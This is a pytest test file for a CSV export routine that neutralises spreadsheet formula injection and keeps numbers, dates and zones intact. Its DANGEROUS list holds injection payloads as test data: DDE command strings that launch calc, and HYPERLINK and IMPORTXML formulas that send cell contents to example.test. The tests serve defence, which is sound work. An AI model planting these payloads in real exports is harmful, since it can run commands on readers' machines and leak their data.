"""CSV that a spreadsheet shows and never runs, with its numbers still numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.reports.tables import BYTE_ORDER_MARK, Cell, csv_text, harmless

DANGEROUS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 1632 960001",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "−1+cmd",
    "=HYPERLINK(\"http://example.test/?x=\"&A1,\"click\")",
    '=IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "text;=1+1",
    "text;  @SUM(1)",
    "text\t=1+1",
    "text\n=1+1",
    "\"=1+1",
    "'=1+1",
)  # fmt: skip
_SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁺⁻₊₋−"


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_cell_begins_as_a_formula(text: str) -> None:
    for cell in _cells(csv_text(["name"], [[text]]))[1]:
        assert not _is_formula(cell), repr(cell)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("text", DANGEROUS)
def test_no_cell_begins_as_a_formula_whatever_the_reader_splits_at(text: str, separator: str) -> None:
    written = csv_text(["a", "b", "c"], [["x", text, 1]]).removeprefix(BYTE_ORDER_MARK)
    for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
        for cell in row:
            # Split at another sign, the cell keeps quotation marks and commas, which no formula begins with.
            assert not _is_formula(cell), repr(cell)


def test_a_header_is_neutralised_as_well() -> None:
    assert _cells(csv_text(["=A1"], []))[0] == ["'=A1"]


@given(st.text())
def test_whatever_it_is_given_no_cell_is_a_formula_and_nothing_is_lost(text: str) -> None:
    cell = _cells(csv_text(["name"], [[text]]))[1][0]
    assert not _is_formula(cell)
    assert re.sub(r"(^|[;\t\r\n])'", r"\1", cell) == re.sub(r"(^|[;\t\r\n])'", r"\1", text.replace("\x00", "\ufffd"))


@given(st.from_regex(r"[A-Za-z0-9][A-Za-z0-9 .,:()/=+@\"'-]{0,40}", fullmatch=True))
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_numbers_stay_numbers_and_texts_stay_texts() -> None:
    row: list[Cell] = [-5, 0, 1_234_567, 0.25, -0.5, "00123", None, True, dt.date(2026, 11, 24)]
    text = csv_text([f"c{n}" for n in range(len(row))], [row])
    assert text.split("\r\n")[1] == '-5,0,1234567,0.25,-0.5,"00123","","yes","2026-11-24"'


def test_an_instant_keeps_its_zone() -> None:
    instant = dt.datetime(2026, 11, 24, 1, 30, 5, 999, tzinfo=dt.UTC)
    assert _cells(csv_text(["at"], [[instant]]))[1] == ["2026-11-24T01:30:05+00:00"]


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=3, max_size=3), max_size=8))
def test_it_is_rfc_4180(rows: list[list[Cell]]) -> None:
    text = csv_text(["a", "b", "c"], rows)
    assert text.startswith(BYTE_ORDER_MARK)
    assert text.endswith("\r\n")
    read = _cells(text)
    assert len(read) == len(rows) + 1
    for given_row, read_row in zip(rows, read[1:], strict=True):
        for value, cell in zip(given_row, read_row, strict=True):
            assert cell == ("" if value is None else harmless(value) if isinstance(value, str) else str(value))


@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf")])
def test_a_number_without_an_end_is_refused(value: float) -> None:
    with pytest.raises(ValueError, match="without an end"):
        csv_text(["n"], [[value]])


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="2 cells and the header 1"):
        csv_text(["a"], [["x", "y"]])


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), strict=True))


def _is_formula(cell: str) -> bool:
    """As the most suspicious reader would see it: what cannot be seen is skipped first."""
    seen = cell.lstrip("".join(c for c in cell if c.isspace() or unicodedata.category(c) in ("Cc", "Cf")))
    return seen[:1] in tuple(_SIGNS) or cell[:1] in ("\t", "\r", "\n", "\x00")
